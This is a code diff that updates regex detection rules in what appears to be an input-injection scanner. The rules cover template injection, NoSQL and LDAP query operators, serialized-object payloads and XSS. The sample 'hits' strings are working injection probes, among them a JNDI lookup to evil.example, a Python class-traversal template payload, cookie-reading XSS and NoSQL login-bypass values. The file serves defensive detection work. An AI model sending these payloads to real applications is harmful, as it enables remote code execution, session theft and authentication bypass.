@@ -26,13 +26,12 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 6,
     message: 'An expression that a template engine would work out.',
     pattern:
-      /(?:\{\{|\$\{|#\{|<%=|\*\{|@\()\s{0,4}['"]?\d{1,6}['"]?\s{0,4}[*+]\s{0,4}['"]?\d{1,6}['"]?\s{0,4}(?:\}|%>|\))|\{\{[^}\n]{0,80}(?:__class__|__globals__|__mro__|\bself\.|config\.items|request\.application)|\.__class__\.__(?:mro|base|bases|subclasses)__|\$\{\s{0,2}(?:jndi|lower|upper|env|sys|::-|dns|script|url|base64\w{0,8})\s{0,2}:|T\(java\.lang\.|freemarker\.template\.utility|\bconstructor\.constructor\s?\(/gi,
+      /(?:\{\{|\$\{|#\{|<%=|\*\{|@\()\s{0,4}['"]?\d{1,6}['"]?\s{0,4}[*+]\s{0,4}['"]?\d{1,6}['"]?\s{0,4}(?:\}|%>|\))|\{\{[^}\n]{0,80}(?:__class__|__globals__|__mro__|\bself\.|config\.items|request\.application)|\.__class__\.__(?:mro|base|bases|subclasses)__|\$\{\s{0,2}(?:jndi|lower|upper|env|sys|dns|script|url|base64\w{0,8})\s{0,2}:|\$\{::-\w{1,8}\}|\$\{\w{0,6}\$\{[^{}\n]{1,40}\}\w{0,6}(?:\$\{|:)|T\(java\.lang\.|freemarker\.template\.utility|\bconstructor\.constructor\s?\(/gi,
     hits: ['{{7*7}}', '${7*7}', "{{''.__class__.__mro__[1]}}", '${jndi:ldap://evil.example/a}', '<%= 7*7 %>'],
     misses: ['{{ user.name }}', '${HOME}/bin', '{{ price * 2 }}', 'a {{total}} of {{count}}'],
   },
   {
     id: 'code.external_entity',
-    signs: '<!e|<xi',
     category: 'code_injection',
     severity: 'high',
     weight: 6,
@@ -49,7 +48,7 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'A value is an operator of a document or directory query.',
     pattern:
-      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin|func|function|accumulator|eval)['"]?\s{0,4}:|\w\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\([|&]?\(?\w{1,30}=\*|["']\$(?:ne|gt)["']\s{0,2}:\s{0,2}(?:null|["']["'])|["']\$regex["']\s{0,2}:\s{0,2}["']\.\*|["']\$where["']\s{0,2}:|['"]\s{0,2};\s{0,2}return\s{1,4}(?:true|1|this)\b/gi,
+      /^\s{0,4}\{\s{0,4}['"]?\$(?:ne|gt|gte|lt|regex|where|exists|nin|func|function|accumulator|eval)['"]?\s{0,4}:|(?:\w|^)\[\$(?:ne|gt|regex|where|exists|nin)\]\s{0,2}=|\*\)\([|&]?\(?\w{1,30}=\*|["']\$(?:ne|gt)["']\s{0,2}:\s{0,2}(?:null|["']["'])|["']\$regex["']\s{0,2}:\s{0,2}["']\.\*|["']\$where["']\s{0,2}:|['"]\s{0,2};\s{0,2}return\s{1,4}(?:(?:true|1|this)\b|['"]{2})/gi,
     hits: [
       "'; return true; var x='",
       '{"user": {"$ne": null}}',
@@ -83,7 +82,7 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 6,
     message: 'An object that runs code when it is read back.',
     pattern:
-      /^\s{0,4}(?:rO0AB[A-Za-z0-9+/]{4}|aced0005|AAEAAAD\/{4}|\(?c(?:os|posix|nt|subprocess|builtins|__builtin__)\n|gASV[A-Za-z0-9+/]{4}|[OC]:\d{1,4}:"[\w\\]{1,120}":\d{1,4}:\{)|!!(?:python\/(?:object|name|module)|javax?\.|com\.sun\.|org\.)|!ruby\/(?:object|hash)|"@type"\s{0,2}:\s{0,2}"(?:com\.sun|java\.|org\.apache)/g,
+      /^\s{0,4}(?:rO0AB[A-Za-z0-9+/]{4}|aced0005|AAEAAAD\/{4}|\(?c(?:os|posix|nt|subprocess|builtins|__builtin__)\n|gASV[A-Za-z0-9+/]{4}|[OC]:\d{1,4}:"[\w\\]{1,120}":\d{1,4}:\{)|!!(?:python\/(?:object|name|module)|javax?\.|com\.sun\.|org\.)|!ruby\/(?:object|hash)|"@type"\s{0,2}:\s{0,2}"(?:com\.sun|java\.|org\.apache)|^\s{0,4}(?:[\w%.-]{1,40}=)?(?:rO0AB|H4sIAAAAAAAA|gA[J-NRS][\w+/]|BAh[bJ7vIUTo][\w+/]{4}|AAEAAAD\/|\/wE[PXy][\w+/]{6}|YTo\d|Tzo\d|TzoxM)[\w+/=%-]{4}/g,
     hits: [
       'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
       'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
@@ -98,7 +97,7 @@ export const CODE_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'Markup that runs a probe when it is shown.',
     pattern:
-      /<script\b[^>]{0,80}>\s{0,4}(?:alert|prompt|confirm|eval|document\.(?:cookie|location)|window\.location|fetch\s?\(\s?["'`](?:https?:)?\/\/)|<\w{1,12}\b[^<>]{0,200}?[\s/"']on[a-z]{3,20}\s{0,2}=\s{0,2}["']?\s{0,2}(?:alert|prompt|confirm|eval|fetch|document\.|window\.|location|javascript:)|^\s{0,4}(?:javascript|vbscript):/gi,
+      /<script\b[^>]{0,80}>\s{0,4}(?:alert|prompt|confirm|eval|document\.(?:cookie|location)|window\.location|fetch\s?\(\s?["'`](?:https?:)?\/\/)|<\w{1,12}\b[^<>]{0,200}?[\s/"']on[a-z]{3,20}\s{0,2}=\s{0,2}["']?\s{0,2}(?:alert|prompt|confirm|eval|fetch|document\.|window\.|location|javascript:)|^\s{0,4}(?:javascript|vbscript):\s{0,2}(?=\S{0,80}[(=/%&'\x60])/gi,
     hits: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)'],
     misses: ['<p onclick="open()">more</p>', '<script src="/app.js"></script>', 'JavaScript: the good parts'],
   },
